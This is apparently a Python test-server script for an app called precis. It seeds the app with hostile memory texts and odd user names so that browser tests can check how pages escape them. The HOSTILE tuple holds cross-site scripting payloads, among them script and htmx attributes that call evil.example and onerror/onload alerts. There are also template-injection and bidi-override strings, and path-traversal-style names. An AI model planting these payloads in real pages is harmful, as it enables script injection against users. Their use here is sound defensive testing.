"""Serve precis for the browser's tests: once with keys and hostile texts, once without and with the demo's talk.

    python tests/page/serve.py node tests/page/flows.mjs

runs the command with PAGE_URL, PAGE_KEY, PAGE_OTHER_KEY, PAGE_EMPTY_KEY and PAGE_DEMO_URL, with PAGE_USERS, whose names
are odd, and with PAGE_EXPIRED, the cookie of a session that is over; it ends as the command does.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import tempfile
from contextlib import AsyncExitStack
from datetime import date, timedelta
from pathlib import Path

from precis.app import App
from precis.app.inputs import UnownedInput
from precis.bootstrap import Runtime, open_runtime
from precis.demo import story_of
from precis.keys.tenants import DEFAULT_TENANT
from precis.page.visit import Sessions
from precis.rest.server import listening
from precis.settings import Settings

HOSTILE = (
    "<script>document.title = 'owned'; fetch('https://evil.example/')</script> The kettle is <b>copper</b>.",
    "<img src=x onerror=alert(1)><svg onload=alert(2)> \"'`> The kettle whistles. {{ 7 * 7 }}",
    "\u202eThe kettle is old.\u202d \u2067מה שלום הקומקום\u2069 </p></li></main><!--",
    "<a href='javascript:alert(3)' hx-get='https://evil.example/' hx-trigger='load'>the kettle leaks</a>",
    "Thekettle" + "boilsandboils" * 2_000,
    "The kettle came from a market in Porto.",
    "The kettle whistles <i>in F sharp</i> since May.",
    "هذه الغلاية قديمة جدا، واشتريتها من سوق المدينة القديمة.",
)


#: Names that an address, a line or a form could take for something else.
USERS = (
    "a/b/../c?d=e&f#g;h", "ضيف/المكتب الخلفي", "日本語の利用者 🦔\u200d", "\u202etxe.esrever", "x" * 200,
    "100% \"quoted\" <i>'s</i> {{ 7 * 7 }}", "%2e%2e%2fetc", "..a", "+1 (555) 010",
)  # fmt: skip
THINGS = ("sledge", "scythe", "loom", "anvil")


async def fill(app: App) -> None:
    """Everything that the page has a view of, in texts that mean ill."""
    await app.memories.add([
        {"id": f"h{at}", "user_id": "bo", "type": "fact", "key": "kettle" if " " in text else "boiling", "text": text,
         "metadata": {"speaker": "<u>Eve</u>"}, "created_at": f"2025-04-0{at + 1}T10:00:00Z"}
        for at, text in enumerate(HOSTILE)
    ])  # fmt: skip
    await app.memories.add([
        {"id": f"n{at}", "user_id": "bo", "memory_type": "episodic", "metadata": {"kind": "note"},
         "created_at": f"2024-03-0{at + 4}T10:00:00Z", "text": f"Bo walked {at + 3} miles along the dike."}
        for at in range(5)
    ])  # fmt: skip
    await app.memories.add([
        {"id": f"{name}{at}", "user_id": "bo", "type": "fact", "key": name, "text": f"{name} owns a {thing}."}
        for name in ("Quill", "Odile", "Tamsin") for at, thing in enumerate(("zeppelin", "bassoon", "marimba"))
    ])  # fmt: skip
    await app.memories.add([{"id": f"m{at}", "user_id": "many", "text": f"Gate {at} is green."} for at in range(60)])
    await app.rollups.summarize("bo", "weekly", day=date(2024, 3, 6))
    turns = [{"id": f"t{at}", "role": "user", "content": f"The {at}th ferry sails at {at}."} for at in range(24)]
    await app.conversations.turn("<b>ferry</b>", turns, user_id="bo")
    view = await app.views.create(name="<b>all of a person</b>", group_by=["user_id"], continuous=True)
    await app.views.run_partition(view.id, {"user_id": "many"})


async def fill_odd(app: App) -> None:
    """Users with odd names, two who are forgotten, and statements of nearly five thousand characters."""
    for user in (*USERS, "wil", "ria"):
        # As the wire takes them: any text is a user.
        await app.memories.add([
            UnownedInput.model_validate(
                {"user_id": user, "type": "fact", "key": "sheds", "text": f"The {thing} stands in shed {at}."}
            )
            for at, thing in enumerate(THINGS)
        ])  # fmt: skip
    for river in ("Elbe", "Oder", "Spree"):
        maps = ", ".join(f"{river} mile {number}" for number in range(500))
        text = f"The archive holds these maps: {maps}"[:4_999] + "."
        await app.memories.add([{"user_id": "long", "type": "fact", "key": "maps", "text": text}])


async def lengthen(app: App, user_id: str) -> None:
    """Give the statements of a user five thousand characters: no summarizer of ours writes so many."""
    long = "The archive holds these maps: " + ", ".join(f"mile {number}" for number in range(500))
    vault, tenant_id = app.parts.store.memories._vault, app.parts.tenant_id
    async with app.parts.store.database.tx(tenant_id) as tx:
        cipher = (await vault.ciphers(tx, [user_id]))[user_id]
        rows = await (
            await tx.connection.execute(
                "SELECT statement_id FROM statements JOIN nodes USING (node_id) JOIN groups USING (group_id) "
                "WHERE user_id = %s",
                [user_id],
            )
        ).fetchall()
        for row in rows:
            name = row["statement_id"]
            sealed = cipher.seal(f"{long[:4_999]}.", tenant_id=tenant_id, row_id=name, column="statement")
            await tx.connection.execute(
                "UPDATE statements SET text_ciphertext = %s WHERE statement_id = %s", [sealed, name]
            )


def expired(runtime: Runtime, tenant_id: str, key_id: str) -> str:
    """The cookie of a session that began thirteen hours ago."""
    secret = runtime.store.tenants.keyring.open_tenant(DEFAULT_TENANT).session_secret()
    sessions = Sessions(secret, lambda: runtime.engine.clock() - timedelta(hours=13))
    return sessions.written(sessions.begin(tenant_id=tenant_id, key_id=key_id))


async def fill_demo(app: App) -> None:
    """The conversation that `precis demo` brings."""
    await app.memories.add([dict(row) for row in story_of(None).rows], summarize="deferred")
    await app.summaries.refresh_all()


async def main(command: list[str]) -> int:
    """Fill, serve, and run the command."""
    async with AsyncExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="precis-page-")))
        folder.chmod(0o755)

        async def begin(name: str) -> Runtime:
            return await stack.enter_async_context(open_runtime(Settings(data_dir=folder / name, inline_deadline=120)))

        keyed, demo = await begin("keyed"), await begin("demo")
        keys = {}
        for tenant, name in (("first", "PAGE_KEY"), ("second", "PAGE_OTHER_KEY"), ("third", "PAGE_EMPTY_KEY")):
            now = keyed.engine.clock()
            keys[name] = await keyed.store.tenants.create_key(tenant, name=tenant, now=now)
        (key,) = await keyed.app("first").keys.list()
        keys |= {"PAGE_USERS": json.dumps(USERS), "PAGE_EXPIRED": expired(keyed, "first", key.key_id)}
        await fill(keyed.app("first"))
        await fill_odd(keyed.app("first"))
        await lengthen(keyed.app("first"), "long")
        await keyed.app("second").memories.add([{"user_id": "siv", "text": "Siv keeps bees."}])
        await fill_demo(demo.app(DEFAULT_TENANT))
        urls = {
            "PAGE_URL": await stack.enter_async_context(listening(keyed)),
            "PAGE_DEMO_URL": await stack.enter_async_context(listening(demo)),
        }
        process = await asyncio.create_subprocess_exec(*command, env={**os.environ, **keys, **urls})
        return await process.wait()


if __name__ == "__main__":
    sys.exit(asyncio.run(main(sys.argv[1:])))
